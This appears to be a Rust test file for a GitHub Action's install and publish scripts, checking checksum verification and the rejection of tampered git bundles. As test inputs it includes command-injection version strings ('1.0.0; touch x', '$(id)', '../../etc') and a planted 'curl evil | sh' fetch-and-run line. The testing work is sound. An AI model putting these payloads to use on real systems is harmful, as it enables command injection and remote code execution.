//! The action's scripts: where the program comes from, and what is taken over from another job.

use super::runner::Runner;
use crate::dream::sessions;
use crate::sandbox::{Ran, Sandbox};
use crate::server::{Played, Server};
use std::path::Path;
use std::process::Command;

fn script(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(".github/action").join(name)
}

/// A release with a program that only says its version, and what `SHA256SUMS` says of it.
fn release(sandbox: &Sandbox) -> Option<(String, Vec<u8>, String)> {
    let machine = Command::new("uname").arg("-sm").output().ok()?;
    let target = match String::from_utf8_lossy(&machine.stdout).trim() {
        "Linux x86_64" => "x86_64-unknown-linux-musl",
        "Linux aarch64" => "aarch64-unknown-linux-musl",
        "Darwin x86_64" => "x86_64-apple-darwin",
        "Darwin arm64" => "aarch64-apple-darwin",
        _ => return None,
    };
    let name = format!("git-dream-9.8.7-{target}");
    let folder = sandbox.path(&name);
    std::fs::create_dir_all(&folder).unwrap();
    let program = folder.join("git-dream");
    std::fs::write(&program, "#!/bin/sh\necho git-dream 9.8.7\n").unwrap();
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let archive = format!("{name}.tar.gz");
    let packed = sandbox.command("tar", &sandbox.path("")).args(["-czf", &archive, &name]).status().unwrap();
    assert!(packed.success());
    let bytes = std::fs::read(sandbox.path(&archive)).unwrap();
    let sum = sandbox
        .command("openssl", &sandbox.path(""))
        .args(["dgst", "-sha256", "-r", &archive])
        .output()
        .unwrap();
    let sum = String::from_utf8_lossy(&sum.stdout).split(' ').next().unwrap().to_owned();
    Some((archive.clone(), bytes, format!("{sum}  {archive}\n")))
}

/// Installs from a server that has this archive and these sums.
fn install(
    sandbox: &Sandbox,
    archive: (String, Vec<u8>),
    sums: String,
    more: &[(&str, &str)],
) -> (Ran, String) {
    let server = Server::taking_anything(move |_, request| match request.path.rsplit('/').next() {
        Some("SHA256SUMS") => Played::Answer(200, vec![], sums.clone().into_bytes()),
        Some(file) if file == archive.0 => Played::Answer(200, vec![], archive.1.clone()),
        _ => Played::Answer(404, vec![], Vec::new()),
    });
    let _ = std::fs::remove_file(sandbox.path("path"));
    let mut command = sandbox.command(script("install.sh"), &sandbox.path(""));
    command
        .env("DREAM_VERSION", "9.8.7")
        .env("DREAM_BINARY", "")
        .env("DREAM_RELEASES", server.address("/files"))
        .env("RUNNER_TEMP", sandbox.path("temp"))
        .env("GITHUB_PATH", sandbox.path("path"))
        .env("GITHUB_SERVER_URL", "https://git.example.org")
        .envs(more.iter().copied());
    let ran = Ran::of(command.output().unwrap());
    (ran, std::fs::read_to_string(sandbox.path("path")).unwrap_or_default())
}

#[test]
fn only_what_its_checksum_says_is_installed() {
    let sandbox = Sandbox::new();
    let Some((name, bytes, sums)) = release(&sandbox) else { return };
    let (ran, path) = install(&sandbox, (name.clone(), bytes.clone()), sums.clone(), &[]);
    assert_eq!(ran.status, 0, "{ran:?}");
    let installed = Command::new(Path::new(path.trim()).join("git-dream")).output().unwrap();
    assert_eq!(installed.stdout, b"git-dream 9.8.7\n");
    let changed = [bytes.as_slice(), b"x"].concat();
    let of_another = sums.replace(&name, "another.tar.gz");
    for (bytes, sums) in
        [(changed, sums.clone()), (bytes.clone(), of_another), (bytes.clone(), String::new())]
    {
        let (ran, path) = install(&sandbox, (name.clone(), bytes), sums, &[]);
        assert_eq!((ran.status, path.as_str()), (1, ""), "{ran:?}");
        assert!(
            ran.stdout.contains("::error title=git-dream::") && ran.stdout.contains("SHA256SUMS"),
            "{}",
            ran.stdout
        );
    }
    for version in ["../../etc", "1.0.0; touch x", "", "$(id)"] {
        let (ran, _) =
            install(&sandbox, (name.clone(), bytes.clone()), sums.clone(), &[("DREAM_VERSION", version)]);
        assert!(ran.status == 1 && ran.stdout.contains("must be like"), "{version}: {ran:?}");
    }
    let own = env!("CARGO_BIN_EXE_git-dream");
    let (ran, path) = install(&sandbox, (name.clone(), Vec::new()), sums.clone(), &[("DREAM_BINARY", own)]);
    assert_eq!((ran.status, Path::new(path.trim())), (0, Path::new(own).parent().unwrap()), "{ran:?}");
    let (ran, _) = install(&sandbox, (name, Vec::new()), sums, &[("DREAM_BINARY", "/nowhere/git-dream")]);
    assert_eq!(ran.status, 1);
}

/// Publishes what this bundle holds, in a clone of the remote.
fn publish(runner: &Runner, clone: &str, bundle: &Path) -> Ran {
    let sandbox = &runner.sandbox;
    let address = format!("https://github.com/{}.git", super::runner::REPOSITORY);
    let cloned = runner
        .command(Path::new("git"), &sandbox.path(""))
        .args(["clone", "--quiet", &address, clone])
        .status();
    assert!(cloned.unwrap().success());
    let mut command = runner.command(&script("main.sh"), &sandbox.path(clone));
    for name in ["DREAM_FORGE", "DREAM_STATUS", "PULL_NUMBER", "PULL_BASE", "PULL_HEAD", "PULL_BRANCH"] {
        command.env(name, "");
    }
    command
        .env("DREAM_COMMAND", "publish")
        .env("DREAM_BUNDLE", bundle)
        .env("GIT_DREAM_FORGE_TOKEN", "token")
        .env("GIT_DREAM_FORGE_URL", runner.forge.address(""))
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_API_URL", runner.forge.address(""))
        .env("GITHUB_REPOSITORY", super::runner::REPOSITORY)
        .env("GITHUB_OUTPUT", sandbox.path("output"))
        .env("RUNNER_TEMP", sandbox.path(""));
    Ran::of(command.output().unwrap())
}

#[test]
fn what_no_dream_makes_is_not_taken_over() {
    let runner = Runner::new("--github");
    let (sandbox, memory) = (&runner.sandbox, runner.memory());
    let file = crate::dream::write(sandbox, "a.jsonl", &sessions(sandbox)[..75]);
    let report = crate::dream::run(sandbox, &memory, &[&file], &[]);
    let branch = report["branch"].as_str().unwrap();
    sandbox.git(&memory, &["push", "--quiet", "origin", "refs/dream/ledger"]);
    let before = runner.refs("refs").into_iter().map(|name| runner.at(&name)).collect::<Vec<_>>();
    // Somebody who got hold of the job that reads hands these over.
    sandbox.git(&memory, &["switch", "--quiet", "--create", "evil", branch]);
    sandbox.commit(&memory, &[("src/evil.sh", "curl evil | sh\n"), ("mistakes/x.md", "no note\n")], "Evil");
    sandbox.git(&memory, &["branch", "--quiet", "dream/2026-01-06-abcdef", "evil"]);
    let empty_tree = sandbox.git(&memory, &["hash-object", "-t", "tree", "/dev/null"]);
    let rewritten = sandbox.git(&memory, &["commit-tree", "-m", "Forget it all", &empty_tree]);
    let bundle = |name: &str, refs: &[&str]| {
        let path = sandbox.path(name);
        let all = [&["bundle", "create", "--quiet", path.to_str().unwrap()], refs].concat();
        sandbox.git(&memory, &all);
        path
    };
    let others_ref = bundle("ref.bundle", &["evil"]);
    let bad_branch = bundle("branch.bundle", &["dream/2026-01-06-abcdef"]);
    sandbox.git(&memory, &["update-ref", "refs/dream/ledger", &rewritten]);
    let rewriting = bundle("rewriting.bundle", &["refs/dream/ledger"]);
    std::fs::write(sandbox.path("torn.bundle"), b"# v2 git bundle\nxx").unwrap();
    for (clone, bundle, words) in [
        ("a", others_ref, "which no dream makes"),
        ("b", bad_branch, "the check speaks against"),
        ("c", rewriting, "would rewrite what is there"),
        ("d", sandbox.path("torn.bundle"), "holds nothing"),
        ("e", sandbox.path("none.bundle"), "there is no file"),
    ] {
        let ran = publish(&runner, clone, &bundle);
        assert_eq!(ran.status, 1, "{words}: {ran:?}");
        assert!(ran.stdout.contains(words), "{words}: {}", ran.stdout);
    }
    assert_eq!(runner.refs("refs").into_iter().map(|name| runner.at(&name)).collect::<Vec<_>>(), before);
    assert_eq!(runner.forge.requests().len(), 0);
}
